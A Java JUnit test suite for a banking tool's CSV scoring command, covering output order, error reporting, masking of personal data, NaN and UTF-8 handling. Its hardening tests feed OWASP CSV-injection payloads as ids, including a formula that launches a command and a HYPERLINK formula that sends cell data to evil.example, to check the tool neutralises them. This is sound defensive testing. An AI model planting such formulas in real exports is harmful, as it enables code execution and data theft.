package io.remotebank.examples.segmentation;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.remotebank.core.pii.Mask;
import io.remotebank.examples.RbCli;
import io.remotebank.examples.cli.ExitCodes;
import io.remotebank.segmentation.batch.CsvInput;
import io.remotebank.segmentation.model.FieldType;
import io.remotebank.segmentation.model.InputField;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.AbstractList;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScoreCommandTest {

    @TempDir
    Path dir;

    private StringWriter out = new StringWriter();
    private StringWriter err = new StringWriter();
    private Path model;

    private int rb(String... args) {
        out = new StringWriter();
        err = new StringWriter();
        return RbCli.execute(new PrintWriter(out), new PrintWriter(err), args);
    }

    @BeforeEach
    void writeModel() throws IOException {
        model = dir.resolve("scorecard.pmml");
        try (InputStream in = ScoreCommandTest.class.getResourceAsStream("sample-scorecard.pmml")) {
            Files.write(model, in.readAllBytes());
        }
    }

    private Path csv(String text) throws IOException {
        Path p = dir.resolve("in.csv");
        Files.writeString(p, text, StandardCharsets.UTF_8);
        return p;
    }

    @Test
    void scoresEveryRow_inInputOrder_withTheModelsOutputNames() throws IOException {
        // tag::score[]
        Path in = csv("customer,department,age,income\n"
                + "c-001,engineering,25,500\n"
                + "c-002,business,45,3000\n"
                + "c-003,,,\n");
        int exit = rb("score", "--pmml", model.toString(), "--input", in.toString());
        // end::score[]
        assertThat(exit).isEqualTo(ExitCodes.OK);
        assertThat(out.toString().lines().toList())
                .containsExactly(
                        "customer,Final Score,Reason Code 1,Reason Code 2,Reason Code 3",
                        "c-001,29,RC2,RC1,",
                        "c-002,21,RC1,RC3,RC2",
                        "c-003,-7,RC1,RC2,RC3");
        assertThat(err.toString()).contains("3 rows scored, 0 failed");
    }

    @Test
    void manyRows_onSeveralThreads_keepTheirOrder() throws IOException {
        StringBuilder s = new StringBuilder("id,age,income,department\n");
        for (int i = 0; i < 20_000; i++) {
            s.append(i)
                    .append(',')
                    .append(i % 60 + 10)
                    .append(',')
                    .append(i % 4000)
                    .append(",marketing\n");
        }
        Path output = dir.resolve("out.csv");
        int exit = rb(
                "score",
                "--pmml",
                model.toString(),
                "--input",
                csv(s.toString()).toString(),
                "--output",
                output.toString(),
                "--threads",
                "4");
        assertThat(exit).isEqualTo(ExitCodes.OK);
        List<String> lines = Files.readAllLines(output);
        assertThat(lines).hasSize(20_001);
        for (int i = 0; i < 20_000; i += 997) {
            assertThat(lines.get(i + 1)).startsWith(i + ",");
        }
        assertThat(out.toString()).isEmpty();
    }

    @Test
    void badRows_areReportedWithTheirLine_andTheRestIsScored() throws IOException {
        Path in = csv("id,department,age,income\r\n"
                + "a,engineering,25,500\r\n"
                + "b,sales,30,100\r\n" // no attribute of departmentScore matches
                + "c,engineering,25\r\n" // a column short
                + "\"d, quoted\",\"marketing\",40,\"2,000\"\r\n" // 2,000 is not a number: invalid, so missing
                + "e,\"bad\"x,1,1\r\n");
        int exit = rb("score", "--pmml", model.toString(), "--input", in.toString());
        assertThat(exit).isEqualTo(ExitCodes.CHECK_FAILED);
        assertThat(out.toString().lines().toList())
                .containsExactly(
                        "id,Final Score,Reason Code 1,Reason Code 2,Reason Code 3",
                        "a,29,RC2,RC1,",
                        "\"d, quoted\",40,RC3,RC1,RC2");
        assertThat(err.toString())
                .contains("line 3: ", "departmentScore")
                .contains("line 4: expected 4 columns, found 3")
                .contains("line 6: text after a closing quote")
                .contains("2 rows scored, 3 failed");
    }

    @Test
    void json_givesOneDocument() throws IOException {
        Path in = csv("id,department,age,income\n13800138000,engineering,25,500\nx,sales,1,1\n");
        int exit = rb("score", "--pmml", model.toString(), "--input", in.toString(), "--json");
        assertThat(exit).isEqualTo(ExitCodes.CHECK_FAILED);
        JsonNode json = new ObjectMapper().readTree(out.toString());
        assertThat(json.path("model").asText()).isEqualTo("SampleScorecard");
        assertThat(json.path("scored").asInt()).isEqualTo(1);
        assertThat(json.path("failed").asInt()).isEqualTo(1);
        assertThat(json.path("errors").get(0).path("line").asInt()).isEqualTo(3);
        JsonNode row = json.path("rows").get(0);
        assertThat(row.path("Final Score").asText()).isEqualTo("29");
        // The id looks like a mobile number: masked unless --unmasked.
        assertThat(row.path("id").asText()).isNotEqualTo("13800138000").contains("*");
    }

    @Test
    void json_withOutputFile_countsTheRows() throws IOException {
        Path in = csv("id,department,age,income\na,engineering,25,500\nb,business,45,3000\n");
        Path output = dir.resolve("scores.csv");
        int exit = rb(
                "score", "--pmml", model.toString(), "--input", in.toString(), "--output", output.toString(), "--json");
        assertThat(exit).isEqualTo(ExitCodes.OK);
        JsonNode json = new ObjectMapper().readTree(out.toString());
        assertThat(json.path("rows").asInt()).isEqualTo(2);
        // Output is masked erring towards masking: a temporary directory's long digit run too.
        assertThat(json.path("output").asText()).isEqualTo(Mask.text(output.toString()));
        assertThat(Files.readAllLines(output)).hasSize(3);
    }

    @Test
    void unmasked_showsIds() throws IOException {
        Path in = csv("id,department,age,income\n13800138000,engineering,25,500\n");
        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--unmasked"))
                .isEqualTo(ExitCodes.OK);
        assertThat(out.toString()).contains("13800138000,29,RC2,RC1,");
    }

    @Test
    void badModelOrInput_isBadUsage() throws IOException {
        Path bad = dir.resolve("bad.pmml");
        Files.writeString(bad, "<PMML version=\"4.4\"><NeuralNetwork/></PMML>");
        Path in = csv("id,age\n1,2\n");
        assertThat(rb("score", "--pmml", bad.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.USAGE);
        assertThat(err.toString()).contains("NeuralNetwork", "line 1");
        assertThat(rb("score", "--pmml", dir.resolve("none.pmml").toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.USAGE);
        assertThat(rb(
                        "score",
                        "--pmml",
                        model.toString(),
                        "--input",
                        dir.resolve("none.csv").toString()))
                .isEqualTo(ExitCodes.USAGE);
        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--threads", "0"))
                .isEqualTo(ExitCodes.USAGE);
        assertThat(rb("score", "--pmml", model.toString(), "--input", csv("").toString()))
                .isEqualTo(ExitCodes.USAGE);
    }

    @Test
    void missingColumns_areWarnedAbout() throws IOException {
        Path in = csv("id,age\n1,25\n");
        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.OK);
        assertThat(err.toString()).contains("no column 'department'", "no column 'income'");
        // department missing -9, age 25: 0, income missing 3
        assertThat(out.toString()).contains("1,-6,");
    }

    // --- Hardening: formula injection, personal data, NaN, bad UTF-8, wide files. ---

    /** OWASP's CSV Injection payloads as record ids (owasp.org/www-community/attacks/CSV_Injection). */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "=1+2\";=1+2"
            })
    void formulaInAnId_isWrittenAsText_inTheFileAndOnStdout(String payload) throws Exception {
        Path in = csv("id,department,age,income\n" + quoted(payload) + ",engineering,25,500\n");
        Path output = dir.resolve("scores.csv");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--output", output.toString()))
                .isEqualTo(ExitCodes.OK);
        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.OK);

        for (String written : List.of(Files.readString(output), out.toString())) {
            try (CsvInput reader =
                    CsvInput.of(new java.io.ByteArrayInputStream(written.getBytes(StandardCharsets.UTF_8)))) {
                assertThat(reader.header()).first().isEqualTo("id");
                // Read back by an RFC 4180 reader: one cell, the payload behind a single quote.
                assertThat(reader.next(10).cells(0)).containsExactly("'" + payload, "29", "RC2", "RC1", "");
            }
        }
        assertThat(Files.readAllLines(output).get(1)).startsWith("\"'");
    }

    @Test
    void negativeScores_stayNumbers_whileANegativeLookingIdIsText() throws IOException {
        Path in = csv("id,department,age,income\n-1,,,\n");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.OK);

        assertThat(out.toString().lines().toList()).contains("\"'-1\",-7,RC1,RC2,RC3");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "A123456(3)|A******3",
                "110105491231002|1*************2",
                "8613812345678|86138****5678",
                "(852) 9123 4567|852****4567",
                "110105194912310021|1****************1",
                "4111111111111112|411111******1112",
                "１３８１２３４５６７８|138****5678",
                "E12345678|E*******8"
            })
    void idThatIsPersonalData_isMaskedInTheOutputFile(String id, String masked) throws IOException {
        Path in = csv("id,department,age,income\n" + quoted(id) + ",engineering,25,500\n");
        Path output = dir.resolve("scores.csv");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--output", output.toString()))
                .isEqualTo(ExitCodes.OK);

        assertThat(Files.readAllLines(output).get(1)).isEqualTo(masked + ",29,RC2,RC1,");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"姓名|张三|张*", "Customer Name|John Smith|J*** S****", "客户姓名|欧阳娜娜|欧***"})
    void idInANameColumn_isMaskedAsAName_onStdoutAndInJson(String column, String name, String masked)
            throws IOException {
        Path in = csv(column + ",department,age,income\n" + name + ",engineering,25,500\n");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.OK);
        assertThat(out.toString()).contains(masked + ",29,RC2,RC1,").doesNotContain(name);

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--json"))
                .isEqualTo(ExitCodes.OK);
        assertThat(new ObjectMapper()
                        .readTree(out.toString())
                        .at("/rows/0")
                        .path(column)
                        .asText())
                .isEqualTo(masked);

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--unmasked"))
                .isEqualTo(ExitCodes.OK);
        assertThat(out.toString()).contains(name + ",29,RC2,RC1,");
    }

    @Test
    void nanInANumericColumn_isInvalidInput_unlessAskedToScoreItAsMissing() throws IOException {
        Path in = csv("id,department,age,income\na,engineering,NaN,500\nb,engineering,25,500\n");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.CHECK_FAILED);
        assertThat(err.toString())
                .contains("line 2: column 'age': NaN is not a number (--nan-as-missing scores it as missing)")
                .contains("1 rows scored, 1 failed");
        assertThat(out.toString().lines().toList())
                .containsExactly("id,Final Score,Reason Code 1,Reason Code 2,Reason Code 3", "b,29,RC2,RC1,");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString(), "--nan-as-missing"))
                .isEqualTo(ExitCodes.OK);
        // age missing: -1 instead of 0.
        assertThat(out.toString()).contains("a,28,", "b,29,");
    }

    @ParameterizedTest
    @ValueSource(strings = {"INF", "-INF", "1e999"})
    void infinityInANumericColumn_isInvalid_asTheModelDeclares(String infinity) throws IOException {
        Path strict = dir.resolve("strict.pmml");
        Files.writeString(
                strict,
                Files.readString(model)
                        .replace(
                                "name=\"age\" usageType=\"active\" invalidValueTreatment=\"asMissing\"",
                                "name=\"age\" usageType=\"active\" invalidValueTreatment=\"returnInvalid\""));
        Path in = csv("id,department,age,income\na,engineering," + infinity + ",500\n");

        assertThat(rb("score", "--pmml", strict.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.CHECK_FAILED);
        assertThat(err.toString()).contains("line 2: ", "age").contains("0 rows scored, 1 failed");
    }

    @Test
    void invalidUtf8_failsItsRow_namingTheLineAndByteOffset_andTheRestIsScored() throws IOException {
        byte[] head = "id,department,age,income\na,engineering,25,500\nb".getBytes(StandardCharsets.UTF_8);
        byte[] tail = "c,engineering,25,500\nd,engineering,25,500\n".getBytes(StandardCharsets.UTF_8);
        Path in = dir.resolve("bad.csv");
        Files.write(in, concat(head, new byte[] {(byte) 0xFF}, tail));

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.CHECK_FAILED);

        assertThat(err.toString())
                .contains("line 3: invalid UTF-8 at byte offset " + head.length + " (0xFF)")
                .contains("2 rows scored, 1 failed")
                .doesNotContain("Input length");
        assertThat(out.toString().lines().toList())
                .containsExactly(
                        "id,Final Score,Reason Code 1,Reason Code 2,Reason Code 3", "a,29,RC2,RC1,", "d,29,RC2,RC1,");
    }

    @Test
    void invalidUtf8_inAQuotedFieldOverTwoLines_namesTheRecordsFirstLine() throws IOException {
        byte[] head = "id,department,age,income\n\"a\nb".getBytes(StandardCharsets.UTF_8);
        byte[] tail = "\",engineering,25,500\nd,engineering,25,500\n".getBytes(StandardCharsets.UTF_8);
        Path in = dir.resolve("bad.csv");
        // A truncated two-byte sequence: C3 needs a continuation byte, gets a quote.
        Files.write(in, concat(head, new byte[] {(byte) 0xC3}, tail));

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.CHECK_FAILED);

        assertThat(err.toString()).contains("line 2: invalid UTF-8 at byte offset " + head.length + " (0xC3)");
        assertThat(out.toString()).contains("d,29,RC2,RC1,");
    }

    @Test
    void invalidUtf8_inTheHeader_isBadUsage() throws IOException {
        Path in = dir.resolve("bad.csv");
        Files.write(in, concat("id,dep".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0x80}, "\n".getBytes()));

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.USAGE);

        assertThat(err.toString()).contains("--input: line 1: invalid UTF-8 at byte offset 6 (0x80)");
    }

    @Test
    void byteOrderMark_isNotPartOfTheFirstColumnsName() throws IOException {
        Path in = csv("\uFEFFid,department,age,income\na,engineering,25,500\n");

        assertThat(rb("score", "--pmml", model.toString(), "--input", in.toString()))
                .isEqualTo(ExitCodes.OK);

        assertThat(out.toString()).startsWith("id,Final Score");
    }

    /** A header that counts how often its names are read. */
    private static final class CountingHeader extends AbstractList<String> {
        private final int size;
        long reads;

        CountingHeader(int size) {
            this.size = size;
        }

        @Override
        public String get(int index) {
            reads++;
            return index == 0 ? "id" : "x" + index;
        }

        @Override
        public int size() {
            return size;
        }
    }

    @Test
    void columnMatching_readsAWideHeaderOnce_howeverManyInputsTheModelHas() {
        int columns = 300_000;
        // 2,000 inputs near the end of the header: a search per input would read it ~500 million times.
        List<InputField> inputs = IntStream.range(0, 2_000)
                .mapToObj(i -> new InputField("x" + (columns - 1 - i), FieldType.NUMBER, i))
                .toList();
        CountingHeader header = new CountingHeader(columns);

        int[] columnOfInput = ScoreCommand.columnsOf(inputs, header);

        assertThat(header.reads).isLessThanOrEqualTo(columns);
        assertThat(columnOfInput[0]).isEqualTo(columns - 1);
        assertThat(columnOfInput[1_999]).isEqualTo(columns - 2_000);
    }

    @Test
    void columnMatching_firstOfTwoColumnsWithOneName_andNeverTheId() {
        List<InputField> inputs =
                List.of(new InputField("age", FieldType.NUMBER, 0), new InputField("id", FieldType.STRING, 1));

        assertThat(ScoreCommand.columnsOf(inputs, List.of("id", "age", "age"))).containsExactly(1, -1);
    }

    @Test
    void manyMissingColumns_areWarnedAboutTenByNameThenCounted() throws IOException {
        StringBuilder pmml =
                new StringBuilder("<PMML xmlns=\"http://www.dmg.org/PMML-4_4\" version=\"4.4\"><DataDictionary>");
        for (int i = 0; i < 25; i++) {
            pmml.append("<DataField name=\"x").append(i).append("\" optype=\"continuous\" dataType=\"double\"/>");
        }
        pmml.append("<DataField name=\"y\" optype=\"continuous\" dataType=\"double\"/></DataDictionary>")
                .append("<RegressionModel functionName=\"regression\"><MiningSchema>");
        for (int i = 0; i < 25; i++) {
            pmml.append("<MiningField name=\"x").append(i).append("\"/>");
        }
        pmml.append(
                "<MiningField name=\"y\" usageType=\"predicted\"/></MiningSchema><RegressionTable intercept=\"1\">");
        for (int i = 0; i < 25; i++) {
            pmml.append("<NumericPredictor name=\"x").append(i).append("\" coefficient=\"1\"/>");
        }
        pmml.append("</RegressionTable></RegressionModel></PMML>");
        Path wide = dir.resolve("wide.pmml");
        Files.writeString(wide, pmml);

        assertThat(rb(
                        "score",
                        "--pmml",
                        wide.toString(),
                        "--input",
                        csv("id,x0\na,1\n").toString()))
                .isEqualTo(ExitCodes.OK);

        assertThat(err.toString())
                .contains("no column 'x1'", "no column 'x10'")
                .doesNotContain("no column 'x11'")
                .contains("14 more inputs have no column");
    }

    /** An RFC 4180 field, quoted, without any other encoding: what an attacker's file may hold. */
    private static String quoted(String field) {
        return '"' + field.replace("\"", "\"\"") + '"';
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] p : parts) {
            length += p.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, all, at, p.length);
            at += p.length;
        }
        return all;
    }
}
